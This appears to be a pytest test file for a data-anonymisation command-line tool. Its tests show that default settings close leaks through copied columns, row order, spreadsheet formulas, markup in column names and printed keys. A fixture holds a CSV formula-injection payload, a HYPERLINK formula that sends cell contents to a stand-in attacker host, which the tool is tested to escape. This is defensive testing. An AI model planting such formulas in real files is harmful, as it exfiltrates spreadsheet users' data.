"""The path around the treatment of the one-off commands: columns that carry what a mask
protects, row order, spreadsheet formulas, plain-text output, unsafe writes, and the
displacement a geo mask announces. Each attack test shows the old behaviour's leak (by
opting back into it) and that the default closes it."""

from __future__ import annotations

import json
import re
from importlib import resources
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from veil.errors import ParameterError

from .conftest import Veil

CHICAGO = Path(__file__).parents[1] / "data" / "chicago_crime_sample.csv"
HIERARCHIES = Path(str(resources.files("veil.release").joinpath("examples", "hierarchies")))
GEO = ["--lat", "Latitude", "--lon", "Longitude", "--centre", "41.88,-87.63"]


@pytest.fixture
def chicago_csv(tmp_path: Path) -> Path:
    path = tmp_path / "chicago.csv"
    path.write_bytes(CHICAGO.read_bytes())
    return path


# ---------------------------------------------------------- columns carrying the treated


def test_attack_location_text_gives_back_the_exact_masked_points_and_geo_now_refuses(
    veil: Veil, chicago_csv: Path, tmp_path: Path
) -> None:
    original = pd.read_csv(chicago_csv)
    mask = ["--mask", "planar-laplace", "--epsilon", "0.01", "--seed", "3"]

    # --keep-other alone: the release gate refuses every copied carrier, naming each.
    old = tmp_path / "old.csv"
    kept = veil("geo", chicago_csv, *GEO, *mask, "--keep-other", "--out", old)
    assert kept.code == 2 and not old.exists()
    for column in ("Location", "X Coordinate", "Y Coordinate", "Block", "ID", "Case Number"):
        assert f"{column} (" in kept.err
    assert "--acknowledge" in kept.err

    # The old behaviour (every other column copied), now only when each carrier is
    # acknowledged by name: the attacker parses the Location text and has every exact
    # coordinate back.
    carriers = "ID,Case Number,Date,Block,X Coordinate,Y Coordinate,Location"
    result = veil(
        "geo", chicago_csv, *GEO, *mask, "--keep-other", "--acknowledge", carriers,
        "--out", old, "--json",
    )  # fmt: skip
    assert result.code == 0, result.err
    released = pd.read_csv(old)
    assert (released["Latitude"] != original["Latitude"].to_numpy()).mean() > 0.99
    parsed = released["Location"].str.extract(r"\(([-\d.]+), ([-\d.]+)\)").astype(float)
    truth = original.set_index("ID").loc[released["ID"], ["Latitude", "Longitude"]].to_numpy()
    recovered = np.isclose(parsed.to_numpy(), truth, atol=1e-9).all(axis=1).mean()
    assert recovered == 1.0
    # The acknowledged carriers are named in a warning, as leaks.
    warned = " ".join(w["message"] for w in json.loads(result.out)["warnings"])
    for column in ("Location", "X Coordinate", "Y Coordinate", "Block", "ID", "Case Number"):
        assert f"{column} (" in warned

    # Now: refused, nothing written, the carriers named in one line.
    new = tmp_path / "new.csv"
    refused = veil("geo", chicago_csv, *GEO, *mask, "--out", new)
    assert refused.code == 2
    assert not new.exists()
    error = refused.err.strip().splitlines()[-1]
    assert error.startswith("veil: error: --keep-other, --drop-other: chicago.csv has 20 ")
    assert "Location (coordinate-text: 100% of rows hold the values of Latitude, Longitude)" in (
        error
    )
    assert "X Coordinate (coordinates: rank correlation 1.000 with Longitude)" in error

    # --drop-other releases the treated pair alone.
    dropped = tmp_path / "dropped.csv"
    assert veil("geo", chicago_csv, *GEO, *mask, "--drop-other", "--out", dropped).code == 0
    assert list(pd.read_csv(dropped).columns) == ["Latitude", "Longitude"]


def test_mask_and_ldp_refuse_other_columns_too(
    veil: Veil, chicago_csv: Path, tmp_path: Path
) -> None:
    out = tmp_path / "x.csv"
    mask = veil("mask", chicago_csv, "--column", "Case Number", "--method", "redact",
                "--out", out)  # fmt: skip
    assert mask.code == 2 and "ID (identifier: 100% of values distinct)" in mask.err
    ldp = veil("ldp", chicago_csv, "--column", "Arrest", "--mechanism", "binary-rr",
               "--epsilon", "1", "--domain", "True,False", "--out", out)  # fmt: skip
    assert ldp.code == 2 and "--drop-other" in ldp.err
    both = veil("mask", chicago_csv, "--column", "ID", "--method", "redact", "--keep-other",
                "--drop-other", "--out", out)  # fmt: skip
    assert both.code == 2 and "give one of them, not both" in both.err
    assert not out.exists()


# ----------------------------------------------------------------------------- row order


def test_attack_positives_first_file_gives_away_each_released_row_by_its_position(
    veil: Veil, tmp_path: Path
) -> None:
    n, positives = 1000, 300
    source = tmp_path / "cases.csv"
    # Sorted with the positive cases first, as a line list often is.
    pd.DataFrame(
        {
            "case": [f"c{i:04d}" for i in range(n)],
            "positive": ["yes"] * positives + ["no"] * (n - positives),
        }
    ).to_csv(source, index=False)
    args = ["ldp", source, "--column", "positive", "--mechanism", "binary-rr", "--epsilon",
            "0.5", "--domain", "yes,no", "--seed", "11", "--keep-other",
            "--acknowledge", "case"]  # fmt: skip

    def attack(released: pd.DataFrame) -> float:
        # The attacker knows the file was sorted positives-first and estimates how many
        # positives there are from the noisy answers (randomized response's estimator).
        p = np.exp(0.5) / (1 + np.exp(0.5))
        share = ((released["positive"] == "yes").mean() - (1 - p)) / (2 * p - 1)
        guess = np.arange(len(released)) < round(share * len(released))
        # The case column is kept only so the test can score the guesses.
        truth = released["case"].str[1:].astype(int).to_numpy() < positives
        return float((guess == truth).mean())

    old = tmp_path / "old.csv"
    assert veil(*args, "--keep-order", "--out", old).code == 0
    new = tmp_path / "new.csv"
    assert veil(*args, "--out", new).code == 0
    # The noise alone lets a reader guess each answer right 62 % of the time; position
    # gives nearly every one away. Shuffled, position tells no more than chance
    # (0.7 * 0.7 + 0.3 * 0.3 = 0.58 for a guess with the right share of positives).
    assert attack(pd.read_csv(old)) > 0.9
    assert attack(pd.read_csv(new)) == pytest.approx(0.58, abs=0.06)


def test_every_record_writing_command_shuffles_and_keep_order_warns(
    veil: Veil, tmp_path: Path, chicago_csv: Path
) -> None:
    n = 300
    source = tmp_path / "ids.csv"
    pd.DataFrame({"name": [f"person {i:03d}" for i in range(n)]}).to_csv(source, index=False)
    out = tmp_path / "out.csv"
    assert veil("mask", source, "--column", "name", "--method", "mask-partial",
                "--keep-last", "3", "--out", out).code == 0  # fmt: skip
    order = pd.read_csv(out)["name"].str[-3:].astype(int).to_numpy()
    assert sorted(order) == list(range(n)) and (order != np.arange(n)).mean() > 0.9

    kept = veil("mask", source, "--column", "name", "--method", "mask-partial",
                "--keep-last", "3", "--keep-order", "--out", out)  # fmt: skip
    assert "PrivacyWarning: --keep-order" in kept.err
    assert (pd.read_csv(out)["name"].str[-3:].astype(int).to_numpy() == np.arange(n)).all()

    carriers = "ID,Case Number,Date,Block,X Coordinate,Y Coordinate,Location"
    grid = veil("geo", chicago_csv, *GEO, "--mask", "grid", "--cell-m", "1000",
                "--keep-other", "--acknowledge", carriers, "--out", out)  # fmt: skip
    assert grid.code == 0, grid.err
    assert (pd.read_csv(out)["ID"].to_numpy() != pd.read_csv(chicago_csv)["ID"]).mean() > 0.9


def test_anonymize_shuffles(veil: Veil, adult_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "anon.csv"
    race = f"race={HIERARCHIES / 'adult_race.csv'}"
    result = veil("anonymize", adult_csv, "--hierarchy", race, "--k", "2", "--keep-other",
                  "--acknowledge", "fnlwgt", "--out", out)  # fmt: skip
    assert result.code == 0, result.err
    released, original = pd.read_csv(out), pd.read_csv(adult_csv)
    assert len(released) == len(original)
    assert (released["fnlwgt"].to_numpy() != original["fnlwgt"].to_numpy()).mean() > 0.9


# ------------------------------------------------------------------- spreadsheet formulas


@pytest.fixture
def formulas(tmp_path: Path) -> Path:
    path = tmp_path / "formulas.csv"
    pd.DataFrame(
        {
            "name": ["Ann", "Bob", "Cy"],
            "note": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "fine"],
            "delta": ["-5", "+2.5", "7"],
        }
    ).to_csv(path, index=False)
    return path


def test_csv_formulas_are_escaped_by_default_and_raw_csv_opts_out(
    veil: Veil, formulas: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    base = ["mask", formulas, "--column", "name", "--method", "redact", "--keep-other",
            "--keep-order", "--json", "--out", out]  # fmt: skip
    result = veil(*base)
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["csv_formulas"] == "escaped"
    assert data["csv_cells_escaped"] == {"note": 2}
    released = pd.read_csv(out, dtype=str)
    assert released["note"].tolist()[:2] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")',
                                             "'@SUM(1+1)"]  # fmt: skip
    # Plain numbers read as text are numbers to a spreadsheet: left as they were.
    assert released["delta"].tolist() == ["-5", "+2.5", "7"]

    raw = veil(*base, "--raw-csv")
    assert json.loads(raw.out)["csv_formulas"] == "raw"
    assert "--raw-csv: 2 cell(s) start like spreadsheet formulas" in raw.err
    assert pd.read_csv(out, dtype=str)["note"][1] == "@SUM(1+1)"

    parquet = tmp_path / "out.parquet"
    base[-1] = parquet
    assert json.loads(veil(*base).out)["csv_formulas"] is None
    assert pd.read_parquet(parquet)["note"][1] == "@SUM(1+1)"


def test_text_output_says_what_was_escaped(veil: Veil, formulas: Path, tmp_path: Path) -> None:
    result = veil("mask", formulas, "--column", "name", "--method", "redact", "--keep-other",
                  "--out", tmp_path / "o.csv")  # fmt: skip
    assert "escaped 2 cell(s) a spreadsheet would run as formulas (note: 2;" in result.out


# ------------------------------------------------------------------------- plain text out


def test_markup_and_emoji_codes_in_column_names_are_printed_as_they_are(
    veil: Veil, tmp_path: Path
) -> None:
    source = tmp_path / "odd.csv"
    pd.DataFrame({"[/x]": [1, 2, 2], ":smile:": ["a", "b", "b"], "[bold]y": [1, 1, 1]}).to_csv(
        source, index=False
    )
    result = veil("risk", source, "--qi", "[/x],:smile:,[bold]y")
    assert result.code == 0, result.err
    assert "[/x], :smile:, [bold]y" in " ".join(result.out.split())
    assert "\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}" not in result.out
    bad = veil("risk", source, "--qi", "[/x],[red]nope")
    assert bad.code == 2 and "'[red]nope' not in odd.csv" in bad.err


ODD = {"[/x]": "a closing markup tag", ":smile:": "an emoji code", "[bold]b": "a style tag"}


@pytest.fixture
def odd_csv(tmp_path: Path) -> Path:
    """Columns named like rich markup and emoji codes, and a point per row near Chicago."""
    n = 40
    frame = pd.DataFrame(
        {
            "[/x]": np.arange(n) % 5,
            ":smile:": ["a", "b"] * (n // 2),
            "[bold]b": np.arange(n) % 3,
            "lat": 41.88 + np.arange(n) * 1e-4,
            "lon": -87.63 + np.arange(n) * 1e-4,
        }
    )
    path = tmp_path / "odd.csv"
    frame.to_csv(path, index=False)
    return path


@pytest.mark.parametrize(
    "args",
    [
        ["risk", "--qi", "[/x],:smile:"],
        ["risk", "--qi", ":smile:,[bold]b", "--json"],
        ["ldp", "--column", ":smile:", "--mechanism", "binary-rr", "--epsilon", "1",
         "--domain", "a,b", "--keep-other"],
        ["ldp", "--column", "[/x]", "--mechanism", "laplace", "--epsilon", "1", "--bounds",
         "0,10", "--keep-other"],
        ["mask", "--column", "[/x]", "--method", "redact", "--keep-other",
         "--acknowledge", "lat,lon"],
        ["mask", "--column", ":smile:", "--method", "redact"],  # refused: names the others
        ["anonymize", "--hierarchy", "[/x]=nowhere.csv", "--k", "2", "--keep-other"],
        ["geo", "--lat", "lat", "--lon", "lon", "--centre", "41.88,-87.63", "--mask", "grid",
         "--cell-m", "100", "--keep-other"],
        ["geo", "--lat", "[/x]", "--lon", "lon", "--centre", "41.88,-87.63", "--mask", "grid",
         "--cell-m", "100", "--keep-other", "--acknowledge", "lat"],
    ],
    ids=["risk", "risk-json", "ldp-rr", "ldp-laplace", "mask", "mask-refused",
         "anonymize-error", "geo", "geo-error"],
)  # fmt: skip
def test_every_command_prints_markup_like_column_names_as_they_are(
    veil: Veil, odd_csv: Path, tmp_path: Path, args: list[str]
) -> None:
    # Issue 14 C: `[/x]` in a column name was a MarkupError traceback and `:smile:` an
    # emoji, in tables, notes, warnings and errors. Every output path prints plain text.
    command, *rest = args
    out = [] if command == "risk" else ["--out", tmp_path / "o.csv"]
    result = veil(command, odd_csv, *rest, *out)
    printed = result.out + result.err
    assert result.code in (0, 2), printed
    assert "Traceback" not in printed and "MarkupError" not in printed
    assert "\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}" not in printed
    named = [c for c in ODD if c in " ".join(rest)]
    for column in named:
        assert column in printed, (column, ODD[column], printed)


def test_encodings_are_named_not_tracebacks(veil: Veil, tmp_path: Path) -> None:
    source = tmp_path / "latin.csv"
    source.write_bytes("town,n\nMálaga,1\nCádiz,2\n".encode("latin-1"))
    result = veil("risk", source, "--qi", "town")
    assert result.code == 2
    assert "is not valid utf-8 text" in result.err and "--encoding" in result.err
    assert veil("risk", source, "--qi", "town", "--encoding", "latin-1").code == 0
    bogus = veil("risk", source, "--qi", "town", "--encoding", "bogus")
    assert bogus.code == 2
    assert "--encoding: unknown text encoding 'bogus'" in bogus.err


def test_a_hierarchy_file_not_in_utf8_is_named(veil: Veil, adult_csv: Path, tmp_path: Path) -> None:
    hierarchy = tmp_path / "race.csv"
    hierarchy.write_bytes("White,*\nBlack,*\nM\xe1laga,*\n".encode("latin-1"))
    result = veil("anonymize", adult_csv, "--hierarchy", f"race={hierarchy}", "--k", "2",
                  "--drop-other", "--out", tmp_path / "o.csv")  # fmt: skip
    assert result.code == 2
    assert f"--hierarchy: file '{hierarchy}' (for 'race') is not UTF-8 text" in result.err


def test_a_plan_encoding_error_is_one_line() -> None:
    import typer

    from veil.cli.errors import errors_about

    with pytest.raises(typer.Exit) as exit_info, errors_about("plan.yaml"):
        "x".encode("bogus")
    assert exit_info.value.exit_code == 2
    with pytest.raises(KeyError), errors_about("plan.yaml"):
        raise KeyError("a bug, not an encoding")


# --------------------------------------------------------------------------- unsafe writes


def test_out_never_replaces_a_hierarchy_key_or_map_file(
    veil: Veil, adult_csv: Path, tmp_path: Path, key_hex: tuple[Path, str]
) -> None:
    hierarchy = tmp_path / "race.csv"
    hierarchy.write_bytes((HIERARCHIES / "adult_race.csv").read_bytes())
    before = hierarchy.read_bytes()
    result = veil("anonymize", adult_csv, "--hierarchy", f"race={hierarchy}", "--k", "2",
                  "--drop-other", "--out", hierarchy)  # fmt: skip
    assert result.code == 2 and "is an input file" in result.err
    assert hierarchy.read_bytes() == before

    _, key = key_hex
    key_copy = tmp_path / "key.csv"
    key_copy.write_text(key + "\n")
    key_copy.chmod(0o600)
    result = veil("mask", adult_csv, "--column", "sex", "--method", "hmac", "--key-file",
                  key_copy, "--drop-other", "--out", key_copy)  # fmt: skip
    assert result.code == 2 and "is an input file" in result.err
    assert key_copy.read_text() == key + "\n"
    assert key not in result.err

    # Through a symbolic link too.
    link = tmp_path / "link.csv"
    link.symlink_to(adult_csv)
    result = veil("ldp", adult_csv, "--column", "age", "--mechanism", "laplace", "--epsilon",
                  "1", "--bounds", "16,100", "--drop-other", "--out", link)  # fmt: skip
    assert result.code == 2 and "is an input file" in result.err


def test_out_and_map_must_differ(veil: Veil, chicago_csv: Path, tmp_path: Path) -> None:
    grid = ["--mask", "grid", "--cell-m", "500", "--drop-other"]
    table, same = tmp_path / "t.csv", tmp_path / "same.html"
    same.symlink_to(table)
    result = veil("geo", chicago_csv, *GEO, *grid, "--out", table, "--map", same)
    assert result.code == 2 and "--out, --map: both name" in result.err
    assert not table.exists()


def test_a_failing_map_writes_nothing(
    veil: Veil, chicago_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The table used to be written before the map was drawn: a map that failed left
    # the release behind without its map.
    grid = ["--mask", "grid", "--cell-m", "500", "--drop-other"]

    from veil import geo as toolkit

    def broken(*args: object, **kwargs: object) -> None:
        raise ParameterError("location_map: cannot draw")

    monkeypatch.setattr(toolkit, "location_map", broken)
    out, map_file = tmp_path / "y.csv", tmp_path / "y.html"
    result = veil("geo", chicago_csv, *GEO, *grid, "--out", out, "--map", map_file)
    assert result.code == 2 and "cannot draw" in result.err
    assert not out.exists() and not map_file.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    monkeypatch.undo()
    result = veil("geo", chicago_csv, *GEO, *grid, "--out", out, "--map", map_file)
    assert result.code == 0, result.err
    assert out.exists() and map_file.read_text().lstrip().lower().startswith("<!doctype html")


def test_the_format_must_match_the_file_name(veil: Veil, chicago_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    result = veil("geo", chicago_csv, *GEO, "--mask", "grid", "--cell-m", "500", "--drop-other",
                  "--format", "parquet", "--out", out)  # fmt: skip
    assert result.code == 2
    assert "is named as csv but the format is parquet" in result.err
    assert not out.exists()
    ok = veil("geo", chicago_csv, *GEO, "--mask", "grid", "--cell-m", "500", "--drop-other",
              "--format", "csv", "--out", out)  # fmt: skip
    assert ok.code == 0 and out.read_text().startswith("Latitude,Longitude")


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "1.5"])
def test_fail_above_must_be_a_finite_risk(veil: Veil, adult_csv: Path, value: str) -> None:
    result = veil("risk", adult_csv, "--qi", "age,sex", "--fail-above", value)
    assert result.code == 2
    assert f"--fail-above: must be a number in [0, 1], got {float(value)!r}" in result.err


def test_string_and_nan_thresholds_are_usage_errors(veil: Veil, adult_csv: Path) -> None:
    for option, value in [("--threshold", "high"), ("--threshold", "nan"),
                          ("--sampling-fraction", "nan")]:  # fmt: skip
        result = veil("risk", adult_csv, "--qi", "age", option, value)
        assert result.code == 2, (option, value)
        assert option in result.err and "Traceback" not in result.err


def test_the_same_column_twice_is_refused(
    veil: Veil, chicago_csv: Path, adult_csv: Path, tmp_path: Path
) -> None:
    result = veil("geo", chicago_csv, "--lat", "Latitude", "--lon", "Latitude", "--centre",
                  "41.88,-87.63", "--mask", "grid", "--cell-m", "100", "--out",
                  tmp_path / "x.csv")  # fmt: skip
    assert result.code == 2 and "--lat, --lon: 'Latitude' named more than once" in result.err
    result = veil("mask", adult_csv, "--column", "sex", "--column", "sex", "--method",
                  "redact", "--out", tmp_path / "x.csv")  # fmt: skip
    assert result.code == 2 and "--column: 'sex' named more than once" in result.err
    result = veil("risk", adult_csv, "--qi", "age,age")
    assert result.code == 2 and "--qi: 'age' named more than once" in result.err


def test_blank_rows_of_a_one_column_csv_are_missing_values(veil: Veil, tmp_path: Path) -> None:
    source = tmp_path / "one.csv"
    source.write_text("answer\nyes\n\nno\n\nyes\n")
    out = tmp_path / "out.csv"
    result = veil("ldp", source, "--column", "answer", "--mechanism", "binary-rr", "--epsilon",
                  "1", "--domain", "yes,no", "--missing", "keep", "--out", out,
                  "--keep-order")  # fmt: skip
    assert result.code == 0, result.err
    released = pd.read_csv(out, skip_blank_lines=False)
    assert len(released) == 5
    assert released["answer"].isna().tolist() == [False, True, False, True, False]


@pytest.mark.parametrize("form", ["hex", "upper", "name"])
def test_a_key_given_as_the_key_env_value_is_never_printed(
    veil: Veil, adult_csv: Path, tmp_path: Path, key_hex: tuple[Path, str], form: str
) -> None:
    _, key = key_hex
    value = {"hex": key, "upper": key.upper(), "name": "k" + key[:30]}[form]
    result = veil("mask", adult_csv, "--column", "sex", "--method", "hmac", "--key-env", value,
                  "--drop-other", "--out", tmp_path / "x.csv")  # fmt: skip
    assert result.code == 2
    assert value not in result.out + result.err
    assert key[:16] not in result.err and key.upper()[:16] not in result.err
    assert result.err.startswith("veil: error: --key-env: ")


# --------------------------------------------------------------------- geo: displacement


@pytest.mark.parametrize(
    ("args", "printed", "warning"),
    [
        (["--mask", "planar-laplace", "--epsilon", "0.01"], "displacement 168 m", None),
        (["--mask", "planar-laplace", "--epsilon", "10"], "displacement 0.168 m", "under 1 m"),
        (["--mask", "planar-laplace", "--epsilon", "0.0001"], "displacement 16.8 km", "over 10"),
        (["--mask", "jitter", "--radius-m", "100", "--seed", "1"], "displacement 70.7 m", None),
        (["--mask", "donut", "--r-min-m", "30", "--r-max-m", "40", "--seed", "1"], "35.4 m", None),
        (["--mask", "grid", "--cell-m", "0.5"], "cell side 0.5 m", "under 1 m"),
        (["--mask", "grid", "--cell-m", "20000"], "cell side 20 km", "over 10 km"),
        (["--mask", "cloak", "--k", "3"], "cell size set by the data", None),
    ],
)
def test_geo_prints_the_expected_displacement_before_it_runs(
    veil: Veil,
    chicago_csv: Path,
    tmp_path: Path,
    args: list[str],
    printed: str,
    warning: str | None,
) -> None:
    result = veil("geo", chicago_csv, *GEO, *args, "--drop-other", "--out", tmp_path / "x.csv")
    assert result.code == 0, result.err
    first = result.err.splitlines()[0]
    assert first.startswith(f"veil: geo: {args[1]}: ") and printed in first
    if warning is None:
        assert "under 1 m" not in result.err and "over 10 km" not in result.err
    else:
        assert re.search(rf"veil: warning: \w+: the .* {warning}", result.err)


def test_a_key_given_as_the_key_file_value_is_never_printed(
    veil: Veil, adult_csv: Path, tmp_path: Path, key_hex: tuple[Path, str]
) -> None:
    _, key = key_hex
    result = veil("mask", adult_csv, "--column", "sex", "--method", "hmac", "--key-file", key,
                  "--drop-other", "--out", tmp_path / "x.csv")  # fmt: skip
    assert result.code == 2
    assert key not in result.out + result.err
    assert "looks like key material" in result.err and "--key-file" in result.err
